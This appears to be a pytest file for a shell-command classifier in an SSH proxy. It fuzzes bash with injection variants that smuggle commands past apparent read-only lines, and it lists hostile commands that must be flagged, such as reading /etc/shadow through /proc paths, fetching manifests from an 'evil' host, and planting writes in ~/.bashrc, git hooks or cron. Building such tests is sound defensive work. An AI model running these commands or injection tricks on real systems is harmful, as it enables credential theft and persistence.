"""The judge beside bash itself: what is called a read leaves no file behind when bash runs it."""

from __future__ import annotations

import os
import random
import shutil
import subprocess
from contextlib import suppress
from pathlib import Path

import pytest

from access.statements import Effect
from proxy.ssh.classify import judge

#: `C` becomes a path. Each writes it, or looks as if it did; whatever the judge calls a read is run.
LINES = (
    "cat <<E'O'F\nEOF\ntouch C\n", "cat <<'E F'\nE F\ntouch C\n", "cat <<''\n\ntouch C\n",
    "cat <<-EOF\n	EOF\ntouch C\nEOF", 'cat <<"EOF"\nEOF\ntouch C\n', "cat <<\\EOF\nEOF\ntouch C\n",
    "cat <<'EOF\nx'\nEOF\nx\ntouch C", "cat <<EOF\\\nX\nEOFX\ntouch C\nEOF", "cat <<$x\n$x\ntouch C\n",
    "cat <<'A' <<'B'\nA\nB\ntouch C\nB", "cat <<'A'\nB\nA\ntouch C", "cat <<'A'\nx\n A\nA\ntouch C",
    "cat <<'A'\nA;\nA\ntouch C\n", "cat <<'a'\"b\"\nab\ntouch C\n'a'b", "cat <<'#'\n#\ntouch C\n",
    "cat <<'A' # x\nA\ntouch C", "cat <<'A' && cat <<'B'\nA\nB\ntouch C", "cat <<'A';touch C\nA",
    "cat <<'A' |\nA\ntouch C", "cat <<'A\n'\nA\ntouch C", "cat <<'$(touch C)'\n$(touch C)\ntouch C",
    "cat <<A\\\nB\n\nAB\ntouch C", "cat <<'EOF'\nEOF", "cat <<'EOF' x\ny\nEOF", "cat <<'EOF'\n'\nEOF\ntouch C\n'",
    "ls \\\n; touch C", "ls '\n' ; touch C", "ls $'\\'' ; touch C #'", 'echo "a\\"; touch C; "',
    "echo 'a'\\''; touch C; '", "echo ${x#'}'}; touch C #'}", 'echo "${x:-"; touch C; "}"',
    "echo $'\\x27; touch C; '", "[[ x =~ ( ]] ; touch C ; [[ ) ]]", "case x in (x) touch C;; esac",
    "echo a#b; touch C", "echo \\# ; touch C", "echo ${#x} ; touch C", "echo $# ; touch C",
    "echo $((1 # 2)); touch C", "echo {a,b};touch C", "ls &&\n# c\ntouch C", "ls;#;\ntouch C", "echo \\\\\ntouch C",
    "echo a \\\\; touch C", "if false; then :; fi; touch C", "echo '\\'; touch C; echo '\\'",
    'echo "\\\\"; touch C; echo ""', 'echo $"a"; touch C', 'echo "`echo \\"`touch C`\\"`"',
    "ls 2>&1 >&-; touch C", "time -p touch C", "! touch C", "coproc X { touch C; }", "exec 3<>C", "ls <&3 3>C",
    "ls &>>C", "ls >& C", "ls 1>C", "ls >C", "cat <<<'x' >C", "{ ls; } >C", "(ls) >C", "for i in 1;do ls;done >C",
    "f()(touch C);f", "ls|tee C", "ls|&tee C", "echo $[a[\\$(touch C)]]", "echo $[$(touch C)]", "((x=$(touch C)))",
    "for ((i=0;i<$(touch C;echo 1);i++));do ls;done", "select x in a;do touch C;break;done<<<1", "let x=1",
    "declare x=$(touch C)", "test -v 'x[$(touch C)]'", "printf -v'x[$(touch C)]' y", "printf '%(%s)T' -1",
    "printf %d 'x[$(touch C)]'", "echo ${x[$(touch C)]}", "echo ${!x[@]}", "x='a[$(touch C)]'; echo $((x))",
    "[[ -v x[$(touch C)] ]]", "[[ 'x[$(touch C)]' -gt 0 ]]", "seq 'x[$(touch C)]'", "expr 'x[$(touch C)]' + 1",
    "sleep 'x[$(touch C)]'", "umask -S", "wait 'x[$(touch C)]'", "ulimit -c 'x[$(touch C)]'",
    "kill -l 'x[$(touch C)]'", "cd -P .", "type -a ls", "command -v 'x[$(touch C)]'", "pwd -P",
    "true 'x[$(touch C)]'", ": ${x:=`touch C`}", "[ 1 -eq 'x[$(touch C)]' ]", "[ -v x[\\$(touch C)] ]",
    'test -n "$(touch C)"', "test -R 'x[$(touch C)]'", "[ -R 'x[$(touch C)]' ]", "[ x -a -v 'x[`touch C`]' ]",
    "[ '(' -v 'x[`touch C`]' ')' ]",
    # found by the random lines below
    "ls <bin/ls $(touch C)", "ls p 2>&1 $(touch C)", "ls </dev/null `touch C`", "cat <<<x $(touch C)", "ls \\ #;touch C",
    "ls x\\\n#$(touch C)", "ls esac\n\\\ntouch C", "sed -E s/x/y/ -e '1w C' /etc/hostname", "ls # $(touch C)", "ls <<<\\ \ntouch C",
)  # fmt: skip


@pytest.mark.skipif(shutil.which("bash") is None, reason="bash is not installed")
def test_a_read_leaves_nothing_behind(tmp_path: Path) -> None:
    made, reads, ran = tmp_path / "c", 0, 0
    for pattern in LINES:
        line = pattern.replace("C", str(made))
        made.unlink(missing_ok=True)
        verdict = judge(line)
        subprocess.run(
            ["bash", "-c", line], stdin=subprocess.DEVNULL, capture_output=True, cwd=tmp_path, timeout=10, check=False
        )
        ran += made.exists()
        if verdict.understood and verdict.effects <= {Effect.READ}:
            reads += 1
            assert not made.exists(), line
    assert reads >= 10  # some are harmless, and called so
    assert ran >= 50  # most do what they look like, so a judge that calls everything a read would fail


PIECES = (
    "touch C", "touch", " C", "ls", "cat", "echo", "true", "head", "'", '"', "`", "$(", ")", "(", "){", "}", ";", "&", "|", "\n", "\\", "\\\n",
    " ", " ", " ", " ", "#", " #", "$", "$'", '$"', "<<E\n", "\nE\n", "<<'E'\n", "<<-E\n", "<<<", "<", ">", "2>&1", "/dev/null", "${x:-", "$((", "))",
    "[[", "]]", "[", "]", "a[", "=", "x=", "!", "*", "?", "~", "-", "--", "if ", "then ", "fi", "for x in 1;do ", "done", "case x in x) ", ";;", "esac",
    "[ ", " ]", "[[ ", " ]]", " > C", "timeout ", "5 ", "nice -n ", "$X", "*", "-*", "%n", "printf ", "LC_X", " -eq ", "0", "find . ", "-fls C", "<>C", "&>C", "|&",
    "\t", "eval", "-e", "-n", "sed", "p", "1w C", "x", "E", "@P", "IFS", "time ", "coproc ", "&&", "||", "<(", ">(", "E'", "test -v", "printf -v",
)  # fmt: skip
TOOLS = (
    "touch",
    "ls",
    "cat",
    "echo",
    "true",
    "sed",
    "sort",
    "head",
    "wc",
    "grep",
    "printf",
    "test",
    "uniq",
    "cut",
    "tr",
    "env",
    "timeout",
    "nice",
    "find",
)
TAILS = ("touch C", ";touch C", "\ntouch C", "`touch C`", "$(touch C)", ">C")


def _random_lines(seed: int, count: int) -> set[str]:
    rng = random.Random(seed)
    lines = set()
    for _ in range(count):
        line = ("ls " if rng.random() < 0.6 else "") + "".join(rng.choice(PIECES) for _ in range(rng.randrange(2, 12)))
        lines.add(line if "C" in line else line + rng.choice(TAILS))
    return lines


#: `sh` is bash on some systems and dash on others, and an account's shell is often `sh`.
SHELLS = [shutil.which("bash"), shutil.which("dash") or shutil.which("bash")]


@pytest.mark.skipif(shutil.which("bash") is None, reason="bash is not installed")
@pytest.mark.parametrize("count", [3_000, pytest.param(150_000, marks=pytest.mark.peers)])
def test_random_lines_that_are_called_reads_leave_nothing_behind(tmp_path: Path, count: int) -> None:
    """Pieces of lines joined at random. Nothing but a few harmless tools can be found by what runs."""
    (tools := tmp_path / "bin").mkdir()
    for name in TOOLS:
        (tools / name).symlink_to(shutil.which(name) or "/nowhere")
    made, reads = tmp_path / "C", 0
    for line in sorted(_random_lines(20261130 + count, count)):
        verdict = judge(line)
        if not verdict.understood or not verdict.effects <= {Effect.READ}:
            continue
        reads += 1
        with suppress(subprocess.TimeoutExpired):
            subprocess.run(
                [SHELLS[reads % 2] or os.devnull, "-c", line], stdin=subprocess.DEVNULL, capture_output=True, cwd=tmp_path,
                env={"PATH": str(tools), "LC_X": "a[$(touch C)]", "X": "5 touch C"}, timeout=5, check=False,
            )  # fmt: skip
        assert not made.exists(), line
    assert reads > count / 200


@pytest.mark.parametrize(
    "line",
    [
        "cat << EOF\n`touch /tmp/c`\nEOF", "cat << EOF\n$(id)\nEOF", "test -v 'a[$(touch /tmp/c)]'",
        "test ! -v 'a[$(id)]'", "cat /proc/self/root/etc/shadow", "cat /proc/1/cwd/x",
        "cat /proc/self/task/1/root/etc/shadow", "cat /var/www/.htpasswd",
        "git diff --no-index /etc/shadow /dev/null", "git blame --contents /etc/shadow x", "git log -O/etc/shadow",
        "git -C /tmp/evil status", "kubectl get Secret", "kubectl get pods -s evil",
        "kubectl get pods -o jsonpath-file=/etc/shadow", "kubectl get --template=/x pods",
        "kubectl get -f http://evil/x", "kubectl apply -f http://evil/x", "kubectl edit cm x",
        "systemctl status -H root@evil nginx", "systemctl status -M c nginx", "systemctl enable /tmp/evil.service",
        "systemctl edit nginx", "docker build .", "apt-get install ./evil.deb", "dpkg -i x.deb",
        "dpkg -l --pre-invoke='touch /tmp/c'", "rpm -qa --pipe 'touch /tmp/c'", "rpm -qa -E '%(id)'",
        "dnf list -c /tmp/evil", "pip install x", "pip list --python /tmp/evil", "pip list --log /tmp/c",
        "journalctl --cursor-file=/tmp/c", "journalctl -D /tmp", "nginx -t -c /tmp/x",
        "iptables -L --modprobe=/tmp/evil", "dmesg -F /etc/shadow", "getent shadow", "tar tf evil:/x",
        "tar tIf 'touch /tmp/c' x", "tar tfF x id", "at now -f x", "lsof -Db/tmp/c",
        "psql service=evil -c 'select 1'", "psql postgres://evil/x -c 'select 1'", "psql -d host=evil -c 'select 1'",
        "echo x > ~/.bashrc", "tee .profile", "cp x /srv/app/.git/hooks/pre-commit", "echo x > .git/config",
        "touch /var/spool/cron/x",
    ],
)  # fmt: skip
def test_options_and_words_that_reach_further(line: str) -> None:
    """Found by attack: each was called a read (or a plain write) once."""
    verdict = judge(line)
    assert verdict.effects & {Effect.OPAQUE, Effect.DANGER}, line
